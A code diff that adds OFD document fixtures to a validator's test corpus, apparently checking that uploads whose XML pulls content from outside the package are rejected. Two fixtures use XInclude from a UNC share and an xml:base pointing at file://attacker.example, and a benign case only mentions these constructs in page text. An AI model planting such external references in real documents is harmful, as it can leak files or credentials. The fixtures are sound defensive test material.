@@ -2972,6 +2972,28 @@ const ofdItems: CorpusItem[] = [
         { name: 'Doc_0/Attachs/original_invoice.pdf', data: '%PDF-1.7\n' },
       ]),
     expect: 'OFD_ATTACHMENT',
+  }, // Round 17: parts an XML toolchain would read otherwise than the checks do.
+  {
+    id: 'ofd-page-xinclude-from-share',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () =>
+      ofdReplacing(
+        'Doc_0/Pages/Page_0/Content.xml',
+        `<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="http://www.ofdspec.org/2016" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${UNC_SHARE}\\page.xml" parse="xml"/></ofd:Page>`,
+      ),
+    expect: 'OOXML_UNREADABLE',
+  },
+  {
+    id: 'ofd-resources-xml-base-on-share',
+    category: 'OFD location outside the package',
+    declared: 'ofd',
+    bytes: () =>
+      ofdReplacing(
+        'Doc_0/PublicRes.xml',
+        `<?xml version="1.0" encoding="UTF-8"?><ofd:Res xmlns:ofd="http://www.ofdspec.org/2016" BaseLoc="Res" xml:base="file://attacker.example/share/"><ofd:Fonts><ofd:Font ID="2" FontName="宋体"><ofd:FontFile>simsun.ttf</ofd:FontFile></ofd:Font></ofd:Fonts></ofd:Res>`,
+      ),
+    expect: 'OOXML_UNREADABLE',
   },
 ];
 
@@ -3869,6 +3891,16 @@ export const ACTIVE_GENUINE: readonly {
         'xbrl',
       ),
     warning: 'OFD_ATTACHED_DATA',
+  },
+  {
+    id: 'ofd-page-text-about-xinclude',
+    declared: 'ofd',
+    // The words of XInclude and xml:base as a page's text: no namespace bound, no attribute.
+    bytes: () =>
+      ofdReplacing(
+        'Doc_0/Pages/Page_0/Content.xml',
+        '<?xml version="1.0" encoding="UTF-8"?><ofd:Page xmlns:ofd="http://www.ofdspec.org/2016"><ofd:Content><ofd:Layer ID="3"><ofd:TextObject ID="4" Boundary="0 0 100 10" Font="2" Size="5"><ofd:TextCode X="0" Y="5">&lt;xi:include href="a.xml"/&gt; xml:base="Res/" http://www.w3.org/2001/XInclude</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>',
+      ),
   },
 ];
 
